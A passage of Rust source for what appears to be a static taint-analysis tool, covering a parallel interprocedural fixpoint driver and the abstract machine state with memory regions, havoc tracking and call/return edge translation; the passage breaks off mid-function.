        // InRegion(Other); `base + i` must keep the base's region, or a
        // `s[i]` string loop forgets what band it walks (and an unbounded
        // copy havocs the wrong region).
        let l = lay();
        let i = Value::normalize((0..=MAX_CONSTS as u32).collect(), &l);
        assert_eq!(i, Value::InRegion(Region::Other));
        let base = Value::constant(DATA_BASE + 16);
        assert_eq!(base.add(&i, &l), Value::InRegion(Region::Data));
        assert_eq!(i.add(&base, &l), Value::InRegion(Region::Data));
        assert_eq!(base.sub(&i, &l), Value::InRegion(Region::Data));
        let widened = Value::InRegion(Region::Stack);
        assert_eq!(widened.add(&i, &l), Value::InRegion(Region::Stack));
        assert_eq!(i.add(&widened, &l), Value::InRegion(Region::Stack));
        assert_eq!(widened.sub(&i, &l), Value::InRegion(Region::Stack));
        // int - const stays an integer (the pre-existing region arm).
        assert_eq!(i.sub(&base, &l), Value::InRegion(Region::Other));
        // int + int stays an integer.
        assert_eq!(i.add(&i, &l), Value::InRegion(Region::Other));
    }

    #[test]
    fn joins_are_commutative_on_samples() {
        let l = lay();
        let samples = [
            Value::constant(3),
            Value::Consts(vec![1, 2]),
            Value::InRegion(Region::Data),
            Value::InRegion(Region::Stack),
            Value::Unknown,
        ];
        for a in &samples {
            for b in &samples {
                assert_eq!(a.join(b, &l), b.join(a, &l), "{a:?} vs {b:?}");
            }
        }
    }
}
