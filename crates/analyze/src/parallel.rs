//! Deterministic parallel interprocedural fixpoint driver.
//!
//! The driver schedules per-function fixpoints ([`crate::summary`]) in
//! **waves**: every function whose inputs changed since its last run, sorted
//! bottom-up by the static SCC rank ([`crate::callgraph`]). Functions in a
//! wave are computed concurrently against *pre-wave snapshots* of the
//! shared maps (contexts, exit summaries, the Anywhere accumulator), then
//! merged **sequentially in wave order** — so the evolution of the shared
//! state is a pure function of the image, independent of thread count or
//! completion timing. Same image ⇒ byte-identical result under `-j1` and
//! `-jN`; the CI `cmp` gate pins this.
//!
//! Monotonicity makes the snapshot scheme sound: contexts, exits and the
//! accumulator only grow (every merge *joins*), so a run computed against a
//! stale snapshot is simply re-run when its inputs grow, and convergence is
//! reached when a whole wave produces no growth.

use std::collections::{BTreeMap, BTreeSet};

use crate::callgraph;
use crate::interp::{prescan, Effects, FnView, STEP_BUDGET};
use crate::state::{Ctx, State};
use crate::summary::{analyze_fn, FnRun};

/// The converged whole-program result, ready for extraction.
pub struct Converged {
    /// Final function entries (static pre-scan plus promoted call/tail
    /// targets).
    pub entries: BTreeSet<u32>,
    /// Final run per *analyzed* (reachable) function entry. Entries absent
    /// here were never given a context: they are unreachable under the
    /// analysis' over-approximate control flow.
    pub runs: BTreeMap<u32, FnRun>,
    /// Global analysis facts (SMC pages).
    pub fx: Effects,
    /// The global Anywhere accumulator, if any widened indirect jump was
    /// seen.
    pub acc: Option<State>,
    /// `Some(reason)` when the analysis gave up (budget exhausted).
    pub degraded: Option<String>,
    /// Total instructions transferred across all runs.
    pub steps: usize,
}

/// Runs the interprocedural fixpoint to convergence with `jobs` workers.
#[must_use]
pub fn converge(ctx: &Ctx, jobs: usize) -> Converged {
    let pre = prescan(ctx);
    let rank = callgraph::ranks(ctx, &pre);
    let mut leaders = pre.leaders;
    let mut entries = pre.fn_entries;
    let text_end = ctx.text_base + 4 * u32::try_from(ctx.words.len()).unwrap_or(u32::MAX);

    let mut contexts: BTreeMap<u32, State> = BTreeMap::new();
    contexts.insert(ctx.entry, State::entry(ctx));
    let mut exits: BTreeMap<u32, State> = BTreeMap::new();
    let mut runs: BTreeMap<u32, FnRun> = BTreeMap::new();
    let mut rdeps: BTreeMap<u32, BTreeSet<u32>> = BTreeMap::new();
    let mut acc: Option<State> = None;
    let mut work: BTreeSet<u32> = BTreeSet::new();
    work.insert(ctx.entry);
    let mut fx = Effects::default();
    let mut total_steps = 0usize;
    let mut degraded: Option<String> = None;

    loop {
        // Wave = every queued entry that is analyzable (has a context, or
        // the accumulator reaches everything). Entries without one are
        // dropped; they re-queue when a caller contributes a context.
        let mut wave: Vec<u32> = work
            .iter()
            .copied()
            .filter(|e| contexts.contains_key(e) || acc.is_some())
            .collect();
        work.clear();
        wave.sort_by_key(|e| (rank.get(e).copied().unwrap_or(usize::MAX), *e));
        if wave.is_empty() {
            break;
        }
        let views: Vec<FnView> = wave
            .iter()
            .map(|&e| FnView {
                lo: e,
                hi: entries
                    .range(e + 1..)
                    .next()
                    .copied()
                    .unwrap_or(text_end)
                    .min(text_end),
            })
            .collect();
        let budget = STEP_BUDGET.saturating_sub(total_steps);
        let results = run_wave(
            ctx,
            &wave,
            &views,
            jobs,
            &leaders,
            &entries,
            &contexts,
            acc.as_ref(),
            &exits,
            &rank,
            budget,
        );

        for (i, run) in results.into_iter().enumerate() {
            let e = wave[i];
            total_steps += run.steps;
            if run.degraded || total_steps > STEP_BUDGET {
                degraded = Some(format!("fixpoint budget exhausted ({STEP_BUDGET} steps)"));
            }
            fx.smc_pages.extend(run.smc_pages.iter().copied());
            for &d in &run.deps {
                rdeps.entry(d).or_default().insert(e);
            }
            for (&callee, cstate) in &run.ctx_out {
                match contexts.get_mut(&callee) {
                    Some(existing) => {
                        if existing.join_into(cstate, ctx) {
                            work.insert(callee);
                        }
                    }
                    None => {
                        contexts.insert(callee, cstate.clone());
                        work.insert(callee);
                    }
                }
            }
            if let Some(ex) = &run.exit {
                let grew = match exits.get_mut(&e) {
                    Some(old) => old.join_into(ex, ctx),
                    None => {
                        exits.insert(e, ex.clone());
                        true
                    }
                };
                if grew {
                    if let Some(callers) = rdeps.get(&e) {
                        work.extend(callers.iter().copied());
                    }
                }
            }
            if let Some(a) = &run.anywhere {
                let grew = match acc.as_mut() {
                    Some(old) => old.join_into(a, ctx),
                    None => {
                        acc = Some(a.clone());
                        true
                    }
                };
                if grew {
                    // With the accumulator grown, every function's seed
                    // grows: re-run them all.
                    work.extend(entries.iter().copied());
                }
            }
            let new_entries: Vec<u32> = run.new_entries.iter().copied().collect();
            runs.insert(e, run);
            for ne in new_entries {
                if entries.insert(ne) {
                    leaders.insert(ne);
                    // The function whose range the new entry splits must be
                    // re-analyzed under its shrunk view. Its already-merged
                    // context/exit contributions are kept: stale but sound
                    // over-approximations.
                    if let Some(&owner) = entries.range(..ne).next_back() {
                        runs.remove(&owner);
                        work.insert(owner);
                    }
                    work.insert(ne);
                }
            }
        }
        if degraded.is_some() {
            break;
        }
    }

    Converged {
        entries,
        runs,
        fx,
        acc,
        degraded,
        steps: total_steps,
    }
}

/// Computes one wave, strided across `jobs` workers. Each worker owns the
/// indices `t, t + n, t + 2n, …`; results are reassembled by index, so the
/// output vector is identical no matter how the work was divided.
#[allow(clippy::too_many_arguments)]
fn run_wave(
    ctx: &Ctx,
    wave: &[u32],
    views: &[FnView],
    jobs: usize,
    leaders: &BTreeSet<u32>,
    entries: &BTreeSet<u32>,
    contexts: &BTreeMap<u32, State>,
    acc: Option<&State>,
    exits: &BTreeMap<u32, State>,
    rank: &BTreeMap<u32, usize>,
    budget: usize,
) -> Vec<FnRun> {
    let one = |i: usize| {
        let e = wave[i];
        analyze_fn(
            ctx,
            leaders,
            entries,
            views[i],
            contexts.get(&e),
            acc,
            exits,
            rank,
            budget,
        )
    };
    let n = jobs.clamp(1, wave.len().max(1));
    if n == 1 {
        return (0..wave.len()).map(one).collect();
    }
    let mut slots: Vec<Option<FnRun>> = (0..wave.len()).map(|_| None).collect();
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..n)
            .map(|t| {
                let one = &one;
                s.spawn(move || {
                    let mut out = Vec::new();
                    let mut i = t;
                    while i < wave.len() {
                        out.push((i, one(i)));
                        i += n;
                    }
                    out
                })
            })
            .collect();
        for h in handles {
            for (i, r) in h.join().expect("analysis worker panicked") {
                slots[i] = Some(r);
            }
        }
    });
    slots
        .into_iter()
        .map(|r| r.expect("every wave slot is filled"))
        .collect()
}
