//! The abstract machine state: registers, tracked memory slots, and
//! per-region summaries.
//!
//! Memory is modelled lazily: a word-aligned slot enters the tracked map
//! only once the program writes it through a known-constant address.
//! Everything else reads its *loader-initial* contents (image bytes for
//! text/data, zeros elsewhere, tainted-unknown for argv/envp strings) —
//! unless the containing region has been **havocked** by a store through a
//! widened pointer, after which the region's defaults lose their values and
//! absorb the stored taint.

use std::collections::{BTreeMap, BTreeSet};

use ptaint_asm::Image;
use ptaint_isa::{Reg, TEXT_BASE, WORD_BYTES};

use crate::domain::{AbsVal, MemLayout, Region, Taint, Value};

/// Upper bound on tracked memory slots per abstract state; beyond it new
/// constant-address stores degrade to region havocs so states stay small
/// and joins stay cheap.
const MAX_TRACKED_SLOTS: usize = 8192;

/// Canonical entry stack pointer: every function is analyzed as if it were
/// entered with `$sp` here, and states are rebased by an affine shift when
/// they cross a call or return edge. Mid-band (not `STACK_TOP - 64`) so
/// that rebasing ancestor frames *upward* across deep call chains cannot
/// leave the stack region.
pub const CANON_SP: u32 = 0x7000_0000;

/// Window of canonically-addressed stack slots kept tracked across an
/// edge translation: `[CANON_SP - STACK_FOLD_BELOW, CANON_SP +
/// STACK_FOLD_ABOVE)`. Slots shifted outside it (dead frames far below,
/// ancestor frames far above — only reachable under deep recursion) fold
/// into the stack havoc summary, which bounds state size and guarantees
/// convergence on recursive call graphs.
const STACK_FOLD_BELOW: u32 = 8192;
/// See [`STACK_FOLD_BELOW`].
const STACK_FOLD_ABOVE: u32 = 8192;

/// How many tracked stack slots survive a [`State::translate`].
#[derive(Debug, Clone, Copy)]
pub enum StackFold {
    /// Ordinary edge: keep slots inside the ±window around [`CANON_SP`]
    /// ([`STACK_FOLD_BELOW`]/[`STACK_FOLD_ABOVE`]).
    Window,
    /// Recursive (intra-SCC) edge: fold *every* tracked stack slot into
    /// the stack havoc summary. On such an edge each translation shifts
    /// the surviving slots to fresh addresses, so keeping the window would
    /// crawl toward the fixpoint one frame size per wave — hundreds of
    /// re-runs for a deep window. Folding eagerly is the bounded forget
    /// the window fold already performs, just applied in one step: the
    /// recursive context/exit stabilizes immediately, at the cost of
    /// region-granular (instead of slot-granular) taint for frames that
    /// cross a recursive edge.
    All,
}

/// How a [`State::translate`] maps [`Value::RetAddr`] depths across an
/// interprocedural edge.
#[derive(Debug, Clone, Copy)]
pub enum RetXfer {
    /// Call edge: every caller frame moves one deeper
    /// (`RetAddr(k) → RetAddr(k + 1)`, capped at
    /// [`crate::domain::MAX_RET_DEPTH`]).
    Deepen,
    /// Return edge at a known return site: `RetAddr(0)` becomes that
    /// concrete pc; deeper frames pop one level.
    Pop(u32),
    /// Tail-call edge: the logical caller chain is unchanged.
    Keep,
}

/// Immutable per-image context shared by every transfer function: the text
/// (plus exit stub) words, initial data bytes, and derived layout.
#[derive(Debug)]
pub struct Ctx {
    /// Text words including the synthesized exit stub.
    pub words: Vec<u32>,
    /// Base address of `words` (the image's text base).
    pub text_base: u32,
    /// Address of the loader's exit stub (== the image's `text_end`).
    pub stub: u32,
    /// Initial data bytes at `data_base`.
    pub data: Vec<u8>,
    /// Base address of the data segment.
    pub data_base: u32,
    /// Entry point.
    pub entry: u32,
    /// Region geometry derived from the image.
    pub layout: MemLayout,
}

impl Ctx {
    /// Builds the context for an image, synthesizing the same exit stub the
    /// loader appends after text (`move $a0,$v0; li $v0,1; syscall; break`).
    #[must_use]
    pub fn new(image: &Image) -> Ctx {
        let mut words = image.text.clone();
        words.extend(stub_words());
        let stub = image.text_end();
        let text_limit = stub + (stub_words().len() as u32) * WORD_BYTES;
        let brk0 = image.data_end().div_ceil(ptaint_isa::PAGE_SIZE) * ptaint_isa::PAGE_SIZE;
        Ctx {
            words,
            text_base: image.text_base,
            stub,
            data: image.data.clone(),
            data_base: image.data_base,
            entry: image.entry,
            layout: MemLayout { text_limit, brk0 },
        }
    }

    /// The word at a text (or stub) address, if in range and aligned.
    #[must_use]
    pub fn word_at(&self, addr: u32) -> Option<u32> {
        if addr < self.text_base || !addr.is_multiple_of(WORD_BYTES) {
            return None;
        }
        self.words
            .get(((addr - self.text_base) / WORD_BYTES) as usize)
            .copied()
    }

    /// Whether `addr` is a valid (aligned, in-range) instruction address.
    #[must_use]
    pub fn in_text(&self, addr: u32) -> bool {
        self.word_at(addr).is_some()
    }

    /// The little-endian data word at a (word-aligned) address, reading
    /// past the initialized bytes as zero.
    #[must_use]
    fn data_word(&self, addr: u32) -> u32 {
        let mut w = 0u32;
        for i in 0..4 {
            let off = (addr + i).wrapping_sub(self.data_base) as usize;
            let byte = self.data.get(off).copied().unwrap_or(0);
            w |= u32::from(byte) << (8 * i);
        }
        w
    }

    /// The loader-initial contents of the word-aligned slot at `addr`
    /// (before any havoc): what the program would read if it never wrote
    /// there.
    #[must_use]
    pub fn initial_slot(&self, addr: u32) -> AbsVal {
        match self.layout.classify(addr) {
            Region::Text => AbsVal::clean_const(self.word_at(addr).unwrap_or(0)),
            Region::Data => AbsVal::clean_const(self.data_word(addr)),
            Region::Heap | Region::Stack | Region::Other => AbsVal::clean_const(0),
            Region::ArgStrings | Region::ArgPtrs => AbsVal::opaque(Taint::Tainted),
        }
    }
}

/// The exit stub the loader appends after text, in encoded form. The
/// loader's [`ptaint_os::exit_stub`] is the single source of truth, so the
/// analyzed program and the running program can never disagree about these
/// words.
#[must_use]
pub fn stub_words() -> [u32; 4] {
    ptaint_os::exit_stub().map(|i| i.encode())
}

/// Abstract machine state at one program point.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct State {
    regs: [AbsVal; 32],
    hi: AbsVal,
    lo: AbsVal,
    /// Tracked word-aligned memory slots (written via constant addresses).
    mem: BTreeMap<u32, AbsVal>,
    /// Per-region havoc level: `Some(t)` once a store through a widened
    /// pointer may have hit the region, carrying taint at most `t`.
    havoc: [Option<Taint>; Region::COUNT],
    /// Monotone join over the taints ever written to tracked slots of each
    /// region — the region-granular bound used by widened loads.
    agg: [Taint; Region::COUNT],
    /// Function-local effect log: word-aligned slot addresses written since
    /// the current function's entry (cleared when a state crosses into a
    /// callee). At a return edge, [`State::apply_return`] replays exactly
    /// these writes onto the caller's state — the MOD part of the callee's
    /// summary — so caller-frame slots the callee never touched keep their
    /// call-site contents instead of absorbing the join of every other
    /// caller's frame.
    written: BTreeSet<u32>,
    /// Function-local havoc events per region: `Some(t)` once *this
    /// function's* run (not an inherited context) havocked the region with
    /// taint at most `t`. The may-write-anywhere half of the MOD summary:
    /// at a return edge these degrade the caller's kept slots of the
    /// region.
    events: [Option<Taint>; Region::COUNT],
}

impl State {
    /// The state the loader establishes at the entry point.
    #[must_use]
    pub fn entry(ctx: &Ctx) -> State {
        let zero = AbsVal::clean_const(0);
        let mut st = State {
            regs: std::array::from_fn(|_| zero.clone()),
            hi: zero.clone(),
            lo: zero,
            mem: BTreeMap::new(),
            havoc: [None; Region::COUNT],
            agg: [Taint::Clean; Region::COUNT],
            written: BTreeSet::new(),
            events: [None; Region::COUNT],
        };
        // argc is world-dependent; argv/envp point at the kernel-built
        // pointer arrays above the stack.
        st.set(Reg::A0, AbsVal::opaque(Taint::Clean));
        let arg_array = AbsVal {
            taint: Taint::Clean,
            value: Value::InRegion(Region::ArgPtrs),
        };
        st.set(Reg::A1, arg_array.clone());
        st.set(Reg::A2, arg_array);
        // The loader really sets `$sp = STACK_TOP - 64`, but the analysis
        // works in canonical frame coordinates (see [`CANON_SP`]): taint
        // grades are translation-invariant, and nothing below the entry
        // frame is populated, so the proven set is unaffected.
        st.set(Reg::SP, AbsVal::clean_const(CANON_SP));
        st.set(Reg::FP, AbsVal::clean_const(CANON_SP));
        st.set(Reg::GP, AbsVal::clean_const(ctx.data_base + 0x8000));
        st.set(Reg::RA, AbsVal::clean_const(ctx.stub));
        debug_assert_eq!(ctx.text_base, TEXT_BASE);
        st
    }

    /// Reads a register (`$zero` is always clean zero).
    #[must_use]
    pub fn get(&self, r: Reg) -> AbsVal {
        self.regs[r.number() as usize].clone()
    }

    /// Writes a register (writes to `$zero` are discarded).
    pub fn set(&mut self, r: Reg, v: AbsVal) {
        if r != Reg::ZERO {
            self.regs[r.number() as usize] = v;
        }
    }

    /// Forces a register's taint to `Clean`, keeping its value — the
    /// Table-1 compare/branch operand untaint.
    pub fn untaint(&mut self, r: Reg) {
        if r != Reg::ZERO {
            self.regs[r.number() as usize].taint = Taint::Clean;
        }
    }

    /// `HI` accessor.
    #[must_use]
    pub fn hi(&self) -> AbsVal {
        self.hi.clone()
    }

    /// `LO` accessor.
    #[must_use]
    pub fn lo(&self) -> AbsVal {
        self.lo.clone()
    }

    /// Writes `HI` and `LO`.
    pub fn set_hilo(&mut self, hi: AbsVal, lo: AbsVal) {
        self.hi = hi;
        self.lo = lo;
    }

    /// What a read of the word-aligned slot at `addr` observes if the slot
    /// is untracked: loader-initial contents, degraded by any havoc of the
    /// containing region.
    #[must_use]
    fn default_slot(&self, ctx: &Ctx, addr: u32) -> AbsVal {
        let r = ctx.layout.classify(addr);
        let init = ctx.initial_slot(addr);
        match self.havoc[r.index()] {
            Some(t) => AbsVal::opaque(init.taint.join(t)),
            None => init,
        }
    }

    /// The abstract contents of the word-aligned slot containing `addr`.
    #[must_use]
    pub fn read_slot(&self, ctx: &Ctx, addr: u32) -> AbsVal {
        let wa = addr & !3;
        self.mem
            .get(&wa)
            .cloned()
            .unwrap_or_else(|| self.default_slot(ctx, wa))
    }

    /// Region-granular taint bound for loads through a widened pointer
    /// into `r`: initial region taint, joined with havoc and with every
    /// taint ever written to a tracked slot of the region.
    #[must_use]
    pub fn region_taint(&self, r: Region) -> Taint {
        r.initial_taint()
            .join(self.havoc[r.index()].unwrap_or(Taint::Clean))
            .join(self.agg[r.index()])
    }

    /// Taint bound for a load through a completely widened pointer, which
    /// could read *any* address: `Unknown` floored (the always-tainted
    /// argv band is reachable, so never `Clean`), raised to the join of
    /// every taint the program has written anywhere — havoc and tracked
    /// writes alike — on this path. An input-free program therefore keeps
    /// such loads at `Unknown` (armed but not flagged), while a path that
    /// has delivered tainted input somewhere grades them `Tainted`: that
    /// is what lets an attack that corrupts a pointer *in memory* (heap
    /// unlink, `%n` targets) surface as a lint finding instead of hiding
    /// behind the widened pointer. Monotone over [`Taint::Unknown`], so
    /// the `Clean`/proven verdicts — the elision contract — are untouched.
    #[must_use]
    pub fn anywhere_taint(&self) -> Taint {
        let mut t = Taint::Unknown;
        for i in 0..Region::COUNT {
            t = t
                .join(self.havoc[i].unwrap_or(Taint::Clean))
                .join(self.agg[i]);
        }
        t
    }

    /// Strongly updates the word-aligned slot at `addr` (a single known
    /// address, full-word store). Falls back to a region havoc when the
    /// tracked map is full.
    pub fn write_slot(&mut self, ctx: &Ctx, addr: u32, v: AbsVal) {
        let wa = addr & !3;
        if self.mem.len() >= MAX_TRACKED_SLOTS && !self.mem.contains_key(&wa) {
            self.havoc_region(ctx, ctx.layout.classify(wa), v.taint);
            return;
        }
        let r = ctx.layout.classify(wa);
        self.agg[r.index()] = self.agg[r.index()].join(v.taint);
        self.written.insert(wa);
        self.mem.insert(wa, v);
    }

    /// Weakly updates the slot at `addr`: joins `v` into the current
    /// contents (used for multi-address and sub-word stores).
    pub fn weak_write_slot(&mut self, ctx: &Ctx, addr: u32, v: &AbsVal) {
        let old = self.read_slot(ctx, addr);
        self.write_slot(ctx, addr, old.join(v, &ctx.layout));
    }

    /// A store through a pointer only known to lie in `r` may have hit any
    /// slot of the region: every tracked slot absorbs the stored taint and
    /// loses its value, and the region's defaults degrade likewise. The
    /// two virtual argument regions alias the same physical band, so
    /// havocking one havocs both.
    pub fn havoc_region(&mut self, ctx: &Ctx, r: Region, taint: Taint) {
        self.havoc_one(ctx, r, taint);
        match r {
            Region::ArgStrings => self.havoc_one(ctx, Region::ArgPtrs, taint),
            Region::ArgPtrs => self.havoc_one(ctx, Region::ArgStrings, taint),
            _ => {}
        }
    }

    fn havoc_one(&mut self, ctx: &Ctx, r: Region, taint: Taint) {
        let i = r.index();
        self.havoc[i] = Some(self.havoc[i].unwrap_or(Taint::Clean).join(taint));
        self.agg[i] = self.agg[i].join(taint);
        self.events[i] = Some(self.events[i].unwrap_or(Taint::Clean).join(taint));
        for (&addr, slot) in self.mem.iter_mut() {
            if ctx.layout.classify(addr) == r {
                slot.taint = slot.taint.join(taint);
                slot.value = havocked_value(&slot.value);
            }
        }
    }

    /// A store through a completely unknown pointer: havoc every region.
    pub fn havoc_all(&mut self, taint: Taint) {
        for h in &mut self.havoc {
            *h = Some(h.unwrap_or(Taint::Clean).join(taint));
        }
        for e in &mut self.events {
            *e = Some(e.unwrap_or(Taint::Clean).join(taint));
        }
        for a in &mut self.agg {
            *a = a.join(taint);
        }
        for slot in self.mem.values_mut() {
            slot.taint = slot.taint.join(taint);
            slot.value = havocked_value(&slot.value);
        }
    }

    /// Joins `other` into `self`; returns whether `self` changed (the
    /// fixpoint driver's convergence signal).
    pub fn join_into(&mut self, other: &State, ctx: &Ctx) -> bool {
        let lay = &ctx.layout;
        let mut changed = false;
        for i in 0..32 {
            let j = self.regs[i].join(&other.regs[i], lay);
            if j != self.regs[i] {
                self.regs[i] = j;
                changed = true;
            }
        }
        let hi = self.hi.join(&other.hi, lay);
        if hi != self.hi {
            self.hi = hi;
            changed = true;
        }
        let lo = self.lo.join(&other.lo, lay);
        if lo != self.lo {
            self.lo = lo;
            changed = true;
        }
        // Memory: keys missing on one side read that side's default.
        let keys: Vec<u32> = self.mem.keys().chain(other.mem.keys()).copied().collect();
        for addr in keys {
            let a = self.read_slot(ctx, addr);
            let b = other.read_slot(ctx, addr);
            let j = a.join(&b, lay);
            if self.mem.get(&addr) != Some(&j) {
                self.mem.insert(addr, j);
                changed = true;
            }
        }
        for i in 0..Region::COUNT {
            let h = match (self.havoc[i], other.havoc[i]) {
                (None, None) => None,
                (a, b) => Some(a.unwrap_or(Taint::Clean).join(b.unwrap_or(Taint::Clean))),
            };
            if h != self.havoc[i] {
                self.havoc[i] = h;
                changed = true;
            }
            let g = self.agg[i].join(other.agg[i]);
            if g != self.agg[i] {
                self.agg[i] = g;
                changed = true;
            }
            let e = match (self.events[i], other.events[i]) {
                (None, None) => None,
                (a, b) => Some(a.unwrap_or(Taint::Clean).join(b.unwrap_or(Taint::Clean))),
            };
            if e != self.events[i] {
                self.events[i] = e;
                changed = true;
            }
        }
        for &w in &other.written {
            if self.written.insert(w) {
                changed = true;
            }
        }
        changed
    }

    /// Translates this state across an interprocedural edge.
    ///
    /// `delta` is the affine shift applied to stack-region addresses
    /// (`canonical-callee = caller + delta` on a call edge with a known
    /// caller `$sp`); `None` means the shift is unknown (widened `$sp`),
    /// in which case every stack coordinate is forgotten. `ret` maps
    /// [`Value::RetAddr`] depths (see [`RetXfer`]).
    ///
    /// Tracked stack slots whose translated address leaves the fold window
    /// around [`CANON_SP`] (or the stack band entirely) are dropped, with
    /// their joined taint recorded in the stack havoc summary — the
    /// bounded forget that keeps recursive call chains convergent. The
    /// havoc is recorded *without* smearing surviving tracked slots:
    /// forgetting one slot says nothing about the others. `fold` selects
    /// the keep-window: [`StackFold::All`] (recursive edges) keeps
    /// nothing, so the translated state is already a translation fixpoint.
    #[must_use]
    pub fn translate(&self, ctx: &Ctx, delta: Option<i64>, ret: RetXfer, fold: StackFold) -> State {
        let xv = |v: &Value| translate_value(v, ctx, delta, ret);
        let xa = |a: &AbsVal| AbsVal {
            taint: a.taint,
            value: xv(&a.value),
        };
        let mut out = State {
            regs: std::array::from_fn(|i| xa(&self.regs[i])),
            hi: xa(&self.hi),
            lo: xa(&self.lo),
            mem: BTreeMap::new(),
            havoc: self.havoc,
            agg: self.agg,
            written: BTreeSet::new(),
            events: self.events,
        };
        let mut folded: Option<Taint> = None;
        let (lo_keep, hi_keep) = match fold {
            StackFold::Window => (CANON_SP - STACK_FOLD_BELOW, CANON_SP + STACK_FOLD_ABOVE),
            // Empty keep-range: every stack slot folds.
            StackFold::All => (CANON_SP, CANON_SP),
        };
        for (&addr, slot) in &self.mem {
            if ctx.layout.classify(addr) != Region::Stack {
                out.mem.insert(addr, xa(slot));
                continue;
            }
            let kept = delta.and_then(|d| {
                let shifted = i64::from(addr) + d;
                let s = u32::try_from(shifted).ok()?;
                (ctx.layout.classify(s) == Region::Stack && (lo_keep..hi_keep).contains(&s))
                    .then_some(s)
            });
            match kept {
                Some(s) => {
                    out.mem.insert(s, xa(slot));
                }
                None => {
                    folded = Some(folded.unwrap_or(Taint::Clean).join(slot.taint));
                }
            }
        }
        if let Some(t) = folded {
            let i = Region::Stack.index();
            out.havoc[i] = Some(out.havoc[i].unwrap_or(Taint::Clean).join(t));
            out.agg[i] = out.agg[i].join(t);
        }
        for &addr in &self.written {
            if ctx.layout.classify(addr) != Region::Stack {
                out.written.insert(addr);
                continue;
            }
            let kept = delta.and_then(|d| {
                let s = u32::try_from(i64::from(addr) + d).ok()?;
                (ctx.layout.classify(s) == Region::Stack && (lo_keep..hi_keep).contains(&s))
                    .then_some(s)
            });
            match kept {
                Some(s) => {
                    out.written.insert(s);
                }
                None => {
                    // A write whose coordinate is lost can no longer be
                    // replayed slot-by-slot at a return edge: it degrades
                    // to a stack havoc *event* so callers still see it.
                    let t = self
                        .mem
                        .get(&addr)
                        .map_or(Taint::Tainted, |slot| slot.taint);
                    let i = Region::Stack.index();
                    out.events[i] = Some(out.events[i].unwrap_or(Taint::Clean).join(t));
                    out.havoc[i] = Some(out.havoc[i].unwrap_or(Taint::Clean).join(t));
                    out.agg[i] = out.agg[i].join(t);
                }
            }
        }
        out
    }

    /// Applies a callee's translated exit state `t` to this call-site
    /// state — the return-edge composition. Registers (and `HI`/`LO`) come
    /// from the callee wholesale; memory is this state's, with exactly the
    /// callee's recorded effects replayed on top:
    ///
    /// * every region the callee havocked (`t.events`) degrades this
    ///   state's kept slots of that region (taint joined, non-[`Value::RetAddr`]
    ///   values forgotten), and
    /// * every slot the callee wrote (`t.written`) joins the callee's exit
    ///   contents into this state's.
    ///
    /// Slots the callee never touched keep their call-site contents. This
    /// is what makes the joined-context scheme precise: the callee's
    /// *context* is the join of every caller's frame (mutually garbled),
    /// but what flows back to each caller is only the callee's MOD
    /// summary, applied to that caller's own frame.
    ///
    /// The callee's effect log also accumulates into this state's, so
    /// effects stay transitive across nested returns.
    ///
    /// `pop` distinguishes a call return (the callee ran one frame deeper:
    /// its [`Value::FrameBase`]`(0)` is *this* state's `$fp`, and deeper
    /// tokens shift down one level) from a tail composition (the target
    /// ran on this very invocation, so its depths are already ours).
    #[must_use]
    pub fn apply_return(&self, t: &State, ctx: &Ctx, pop: bool) -> State {
        let my_fp = self.get(Reg::FP).value;
        let subst = |v: &Value| -> Value {
            if !pop {
                return v.clone();
            }
            match v {
                Value::FrameBase(0) => my_fp.clone(),
                Value::FrameBase(k) => Value::FrameBase(k - 1),
                other => other.clone(),
            }
        };
        let subst_a = |a: &AbsVal| AbsVal {
            taint: a.taint,
            value: subst(&a.value),
        };
        let mut out = self.clone();
        out.regs = std::array::from_fn(|i| subst_a(&t.regs[i]));
        out.hi = subst_a(&t.hi);
        out.lo = subst_a(&t.lo);
        for i in 0..Region::COUNT {
            out.havoc[i] = match (out.havoc[i], t.havoc[i]) {
                (None, None) => None,
                (a, b) => Some(a.unwrap_or(Taint::Clean).join(b.unwrap_or(Taint::Clean))),
            };
            out.agg[i] = out.agg[i].join(t.agg[i]);
            out.events[i] = match (out.events[i], t.events[i]) {
                (None, None) => None,
                (a, b) => Some(a.unwrap_or(Taint::Clean).join(b.unwrap_or(Taint::Clean))),
            };
        }
        for (&addr, slot) in &mut out.mem {
            if let Some(h) = t.events[ctx.layout.classify(addr).index()] {
                slot.taint = slot.taint.join(h);
                slot.value = havocked_value(&slot.value);
            }
        }
        for &addr in &t.written {
            let mine = out.read_slot(ctx, addr);
            let theirs = subst_a(&t.read_slot(ctx, addr));
            out.mem.insert(addr, mine.join(&theirs, &ctx.layout));
            out.written.insert(addr);
        }
        out
    }

    /// Clears the function-local effect log — applied to a state crossing
    /// into a callee, whose own run starts with nothing written yet.
    pub fn reset_effects(&mut self) {
        self.written.clear();
        self.events = [None; Region::COUNT];
    }

    /// Folds this state into the coordinate-free form joined by the
    /// Anywhere accumulator. A widened indirect jump can land in *any*
    /// function, i.e. under any frame shift, so everything that is only
    /// meaningful relative to the current canonical frame is degraded:
    /// stack constants widen to [`Value::InRegion`]`(Stack)` (their
    /// physical addresses do lie in the band), opaque return addresses to
    /// [`Value::Unknown`], and tracked stack slots into the stack havoc
    /// summary. Register *taints* — the part the soundness of site grading
    /// depends on — are preserved exactly.
    #[must_use]
    pub fn fold_for_anywhere(&self, ctx: &Ctx) -> State {
        let xv = |v: &Value| match v {
            Value::Consts(cs) if cs.iter().any(|&c| ctx.layout.classify(c) == Region::Stack) => {
                if cs.iter().all(|&c| ctx.layout.classify(c) == Region::Stack) {
                    Value::InRegion(Region::Stack)
                } else {
                    Value::Unknown
                }
            }
            Value::RetAddr(_) | Value::FrameBase(_) => Value::Unknown,
            other => other.clone(),
        };
        let xa = |a: &AbsVal| AbsVal {
            taint: a.taint,
            value: xv(&a.value),
        };
        let mut out = State {
            regs: std::array::from_fn(|i| xa(&self.regs[i])),
            hi: xa(&self.hi),
            lo: xa(&self.lo),
            mem: BTreeMap::new(),
            havoc: self.havoc,
            agg: self.agg,
            written: BTreeSet::new(),
            events: self.events,
        };
        let mut folded: Option<Taint> = None;
        for (&addr, slot) in &self.mem {
            if ctx.layout.classify(addr) == Region::Stack {
                folded = Some(folded.unwrap_or(Taint::Clean).join(slot.taint));
            } else {
                out.mem.insert(addr, xa(slot));
            }
        }
        if let Some(t) = folded {
            let i = Region::Stack.index();
            out.havoc[i] = Some(out.havoc[i].unwrap_or(Taint::Clean).join(t));
            out.agg[i] = out.agg[i].join(t);
        }
        for &addr in &self.written {
            if ctx.layout.classify(addr) == Region::Stack {
                let t = self
                    .mem
